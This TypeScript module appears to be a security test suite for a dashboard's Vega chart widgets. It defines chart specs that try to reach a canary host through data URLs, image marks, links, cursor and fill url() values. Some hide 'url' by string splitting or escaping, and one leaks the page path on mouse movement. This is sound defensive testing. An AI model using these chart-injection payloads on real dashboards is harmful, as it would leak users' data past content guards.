import type { Aim, ReportOf, Shown, WidgetAttack } from './attack.ts'
import { compileGuard } from './guards.ts'
import { until } from './until.ts'

const checks = ['charts are checked when saved', compileGuard] as const
const loader = 'charts load nothing'
const paint = 'charts are painted with colours'

const x = { field: 'orders.status', type: 'nominal' }
const y = { field: 'orders.count', type: 'quantitative' }
const bar = { mark: 'bar', encoding: { x, y } }
const room = { width: 200, height: 100 }
const data = [{ name: 'rows' }]
const everywhere = { x: { value: 0 }, y: { value: 0 }, width: { value: 200 }, height: { value: 100 } }

const sharedBoard = (isCreators: boolean): string => (isCreators ? 'creators' : 'charts')

const chart = (
  name: string,
  guards: readonly string[],
  report: (aim: Aim) => Pick<ReportOf, 'spec' | 'vega' | 'dimensions'>,
  { isAlone = false, isCreators = false, act }: { isAlone?: boolean; isCreators?: boolean; act?: WidgetAttack['act'] } = {},
): WidgetAttack => ({
  name,
  guards,
  board: isAlone ? name : sharedBoard(isCreators),
  isCreators,
  widget: (aim) => ({ report: { kind: 'vega', ...report(aim) } }),
  ...(act ? { act } : {}),
})

/** The mark that an attack is drawn as, found by the widget that it is in. */
const overMark =
  (name: string, isPressed = false) =>
  async ({ frame, hits }: Shown): Promise<void> => {
    const mark = frame.locator(`[data-widget="${name}"] .mark-rect path, [data-widget="${name}"] .mark-image image`).first()
    // There is none where the chart is refused.
    if (!(await until(async () => (await mark.count()) > 0, 3000))) return
    await mark.hover({ force: true })
    if (!isPressed) return
    await mark.click({ force: true })
    // A frame that goes elsewhere does so after the click.
    await until(() => hits.has(name), 1500)
  }

const address = (aim: Aim, name: string): string => `${aim.canary}/${name}`

const imageOf = (aim: Aim, name: string): Pick<ReportOf, 'spec' | 'vega'> => ({
  spec: { mark: { type: 'image', url: address(aim, name) }, encoding: { x, y } },
  vega: { ...room, data, marks: [{ type: 'image', encode: { enter: { ...everywhere, url: { value: address(aim, name) } } } }] },
})

const dataOf = (aim: Aim, name: string): Pick<ReportOf, 'spec' | 'vega'> => ({
  spec: { ...bar, data: { url: address(aim, name) } },
  vega: { ...room, data: [...data, { name: 'more', url: address(aim, name) }], marks: [] },
})

const fillOf = (aim: Aim, name: string): Pick<ReportOf, 'spec'> => ({
  spec: { ...bar, mark: { type: 'bar', fill: { expr: `'ur' + 'l(${address(aim, name)}#a)'` } } },
})

/** Charts of an author, and rows that somebody else wrote. */
export const chartAttacks: readonly WidgetAttack[] = [
  chart('c-data', [...checks, loader, 'page: connect-src'], (aim) => dataOf(aim, 'c-data')),
  chart('c-image', [...checks, loader], (aim) => imageOf(aim, 'c-image')),
  chart(
    'c-link',
    [...checks, loader],
    (aim) => ({
      spec: { ...bar, mark: { type: 'bar', href: address(aim, 'c-link') } },
      vega: {
        ...room,
        data,
        marks: [{ type: 'rect', encode: { enter: { ...everywhere, fill: { value: 'red' }, href: { value: address(aim, 'c-link') } } } }],
      },
    }),
    { isAlone: true, act: overMark('c-link', true) },
  ),
  chart(
    'c-cursor',
    checks,
    (aim) => ({
      spec: { ...bar, mark: { type: 'bar', cursor: { expr: `'ur' + 'l(${address(aim, 'c-cursor')}), auto'` } } },
      vega: {
        ...room,
        data,
        marks: [
          {
            type: 'rect',
            encode: { enter: { ...everywhere, fill: { value: 'red' }, cursor: { value: `url(${address(aim, 'c-cursor')}), auto` } } },
          },
        ],
      },
    }),
    { act: overMark('c-cursor') },
  ),
  chart(
    'c-read',
    [...checks, paint],
    (aim) => ({
      spec: {
        ...bar,
        mark: { type: 'bar', fill: { expr: `'ur' + 'l(${address(aim, 'c-read')}?' + event.view.location.pathname + '#a)'` } },
      },
      vega: {
        ...room,
        data,
        signals: [
          { name: 'leak', value: '', on: [{ events: 'pointermove, mousemove, pointerover', update: 'event.view.location.pathname' }] },
        ],
        marks: [
          {
            type: 'rect',
            encode: {
              enter: everywhere,
              update: { fill: { signal: `leak ? 'url(${address(aim, 'c-read')}?' + leak + '#a)' : 'red'` } },
            },
          },
        ],
      },
    }),
    { act: overMark('c-read') },
  ),
  chart('c-fill-expression', [paint], (aim) => fillOf(aim, 'c-fill-expression')),
  chart('c-stroke-expression', [paint], (aim) => ({
    spec: { ...bar, mark: { type: 'bar', stroke: { expr: `'ur' + 'l(${address(aim, 'c-stroke-expression')}#a)'` } } },
  })),
  chart('c-fill-escaped', [paint], (aim) => ({
    spec: { ...bar, mark: { type: 'bar', fill: `u\\72l(${address(aim, 'c-fill-escaped')}#a)` } },
  })),
  chart('c-fill-rows', [paint], () => ({
    spec: { ...bar, encoding: { x, y, color: { field: 'orders.paint', scale: null } } },
    dimensions: ['orders.status', 'orders.paint'],
  })),
  // Of creators: what a chart gets past its checks is kept off by the walls of its frame.
  chart('c-creators-data', [...checks, loader, 'report: connect-src'], (aim) => dataOf(aim, 'c-creators-data'), { isCreators: true }),
  chart('c-creators-image', [...checks, loader, 'report: img-src'], (aim) => imageOf(aim, 'c-creators-image'), { isCreators: true }),
  chart('c-creators-fill', [paint, 'report: img-src'], (aim) => fillOf(aim, 'c-creators-fill'), { isCreators: true }),
]
